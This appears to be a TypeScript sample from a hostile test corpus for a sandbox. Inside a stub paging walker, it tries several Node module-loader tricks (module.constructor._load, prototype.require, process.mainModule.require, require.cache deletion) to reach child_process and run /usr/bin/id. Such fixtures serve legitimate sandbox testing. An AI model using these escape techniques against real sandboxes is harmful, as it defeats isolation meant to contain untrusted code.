// @ts-nocheck
// Hostile corpus, kind module-load-bypass (escape): module.constructor._load, Module.prototype.require, process.mainModule.require and require.cache tricks to reach child_process.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
// ---- splice: escape-helpers ----

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) { const tries = [() => module.constructor._load('child_process', module, false), () => module.constructor.prototype.require.call(module, 'child_process'), () => process.mainModule && process.mainModule.require('child_process'), () => module.constructor._load.call(module.constructor, 'node:child_process'), () => { delete require.cache['child_process']; return module.require('child_process'); }]; for (const t of tries) { let cp; try { cp = t(); } catch { continue; } let out; try { out = cp && cp.execFileSync('/usr/bin/id').toString(); } catch {} if (out) escaped('ran a command through a module loader: ' + out); } }
    throw new Error('not implemented: walker');
  },
};
